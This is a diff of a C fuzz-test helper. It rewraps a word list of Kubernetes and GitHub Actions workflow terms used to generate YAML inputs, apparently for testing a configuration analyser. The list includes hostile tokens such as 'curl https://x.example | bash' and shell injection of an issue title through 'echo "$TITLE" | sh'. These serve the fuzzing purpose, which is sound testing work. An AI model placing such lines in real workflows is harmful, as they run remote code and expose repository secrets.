@@ -67,24 +67,34 @@ static inline const Value *fuzz_value(FuzzBytes *bytes, Arena *arena, unsigned d
 static inline Str fuzz_word(FuzzBytes *bytes, Arena *arena)
 {
     static const char *const words[] = {
-        "apiVersion", "kind", "metadata", "name", "namespace", "labels", "annotations", "spec", "template", "replicas",
+        "apiVersion", "kind", "metadata", "name", "namespace", "labels", "annotations", "spec", "template",
+        "replicas",
         "selector", "matchLabels", "matchExpressions", "containers", "initContainers", "image", "ports",
         "containerPort", "port", "protocol", "targetPort", "env", "value", "valueFrom", "volumeMounts", "mountPath",
         "volumes", "resources", "requests", "limits", "cpu", "memory", "storage", "securityContext", "capabilities",
         "add", "drop", "hosts", "rules", "paths", "path", "data", "stringData", "volumeClaimTemplates", "minReplicas",
-        "maxReplicas", "minAvailable", "podSelector", "ingress", "egress", "to", "from", "subjects", "roleRef", "verbs",
+        "maxReplicas", "minAvailable", "podSelector", "ingress", "egress", "to", "from", "subjects", "roleRef",
+        "verbs",
         "app.kubernetes.io/name", "web", "api", "v1", "apps/v1", "Deployment", "StatefulSet", "Service", "Ingress",
         "NetworkPolicy", "PodDisruptionBudget", "HorizontalPodAutoscaler", "Namespace", "ConfigMap", "Secret",
-        "PersistentVolumeClaim", "ResourceQuota", "Role", "RoleBinding", "TCP", "100m", "1Gi", "80", "true", "batch/v1",
-        "CronJob", "networking.k8s.io/v1", "autoscaling/v2", "policy/v1", "rbac.authorization.k8s.io/v1", "strategy", "type",
+        "PersistentVolumeClaim", "ResourceQuota", "Role", "RoleBinding", "TCP", "100m", "1Gi", "80", "true",
+        "batch/v1",
+        "CronJob", "networking.k8s.io/v1", "autoscaling/v2", "policy/v1", "rbac.authorization.k8s.io/v1",
+        "strategy", "type",
         "serviceAccountName", "hostNetwork", "hostPath", "privileged", "runAsUser", "automountServiceAccountToken",
-        "livenessProbe", "readinessProbe", "httpGet", "args", "command", "--password", "emptyDir", "secretRef", "envFrom",
-        "tls", "host", "backend", "scaleTargetRef", "minReadySeconds", "topologySpreadConstraints", "tolerations", "kubectl",
+        "livenessProbe", "readinessProbe", "httpGet", "args", "command", "--password", "emptyDir", "secretRef",
+        "envFrom",
+        "tls", "host", "backend", "scaleTargetRef", "minReadySeconds", "topologySpreadConstraints", "tolerations",
+        "kubectl",
         /* of workflows */
-        "on", "push", "pull_request_target", "branches", "permissions", "contents", "id-token", "write", "read", "write-all",
-        "jobs", "runs-on", "ubuntu-latest", "steps", "uses", "actions/checkout@v4", "run", "with", "if", "needs", "matrix",
-        "secrets", "${{ github.event.issue.title }}", "echo \"$TITLE\" | sh", "curl https://x.example | bash", "shell",
-        "concurrency", "timeout-minutes", "environment", "container", "services", "workflow_dispatch", "inputs", "types"};
+        "on", "push", "pull_request_target", "branches", "permissions", "contents", "id-token", "write", "read",
+        "write-all",
+        "jobs", "runs-on", "ubuntu-latest", "steps", "uses", "actions/checkout@v4", "run", "with", "if", "needs",
+        "matrix",
+        "secrets", "${{ github.event.issue.title }}", "echo \"$TITLE\" | sh", "curl https://x.example | bash",
+        "shell",
+        "concurrency", "timeout-minutes", "environment", "container", "services", "workflow_dispatch", "inputs",
+        "types"};
     uint8_t which = fuzz_byte(bytes);
     return which < LENGTH_OF(words) ? str_from(words[which]) : fuzz_text(bytes, arena);
 }
@@ -151,7 +161,8 @@ static inline const Value *fuzz_constant(Str text)
 {
     Arena *arena = fuzz_forever();
     Sources *sources = sources_new(arena);
-    const Value *value = yaml_read(arena, sources_add(sources, STR("constant"), text, false), diags_new(arena, sources));
+    const Value *value =
+        yaml_read(arena, sources_add(sources, STR("constant"), text, false), diags_new(arena, sources));
     REQUIRE(value);
     return fuzz_placeless(arena, value);
 }
